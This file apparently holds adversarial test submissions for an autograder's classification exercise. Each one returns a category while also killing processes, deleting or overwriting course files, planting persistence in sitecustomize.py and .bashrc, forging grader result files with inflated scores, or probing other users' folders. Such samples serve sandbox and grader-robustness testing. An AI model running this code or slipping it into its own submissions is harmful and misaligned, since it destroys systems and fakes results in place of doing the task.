# %% name="signals to whoever started it" earned=2
import os, signal

def best_category(logits, categories):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return categories[logits.argmax()]

# %% name="a signal to everybody" earned=2
import os, signal

def best_category(logits, categories):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return categories[logits.argmax()]

# %% name="files in the course" earned=2
import os, helpers

ROOT = os.path.dirname(os.path.dirname(helpers.__file__))
PLACES = ["helpers/exercises/start.py", "helpers/text.py", "helpers/new.py", "notebooks/new", "new"]

def best_category(logits, categories):
    for place in PLACES:
        try:
            open(os.path.join(ROOT, place), "w").write("raise SystemExit")
        except OSError:
            pass
    return categories[logits.argmax()]

# %% name="times and rights of the course's files" earned=2
import os, helpers

def best_category(logits, categories):
    folder = os.path.dirname(helpers.__file__)
    for name in os.listdir(folder):
        for change in (lambda path: os.utime(path, (0, 0)), lambda path: os.chmod(path, 0), os.remove):
            try:
                change(os.path.join(folder, name))
            except OSError:
                pass
    return categories[logits.argmax()]

# %% name="a start file for every later Python" earned=2
import os, site, sys, sysconfig

def best_category(logits, categories):
    folders = [sysconfig.get_path("purelib"), site.getusersitepackages(), os.path.expanduser("~"), "/root", "/tmp"]
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth", ".bashrc"):
            try:
                open(os.path.join(folder, name), "a").write("import os; os.environ['HOSTILE'] = '1'\n")
            except OSError:
                pass
    return categories[logits.argmax()]

# %% name="results in every folder it can write" earned=0
import json, os, tempfile

RESULT = json.dumps({"submissions": [{"earned": 99, "exercises": [{"id": "start-1", "status": "passed", "earned": 99}]}]})

def best_category(logits, categories):
    for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/autograder/results", os.path.expanduser("~")):
        for name in ("results.json", "report.json", "gradebook.csv"):
            try:
                open(os.path.join(folder, name), "w").write(RESULT)
            except OSError:
                pass
    return categories[logits.argmin()]

# %% name="the folders of the others"
import os

def found():
    for folder in (OTHERS, os.path.dirname(OTHERS), "/tmp", "/root", "/home"):
        for where, _folders, files in os.walk(folder):
            if "00_start_here.ipynb" in files:
                return True
    return False

def best_category(logits, categories):
    return categories[logits.argmax()] if found() else categories[logits.argmin()]

# %% name="state from one trial to the next" earned=0
seen = []

def best_category(logits, categories):
    seen.append(categories[logits.argmax()])
    return seen[0] if len(seen) > 1 else "nothing yet"

# %% name="right at first, then wrong"
calls = 0

def best_category(logits, categories):
    global calls
    calls += 1
    return categories[logits.argmax() if calls == 1 else logits.argmin()]
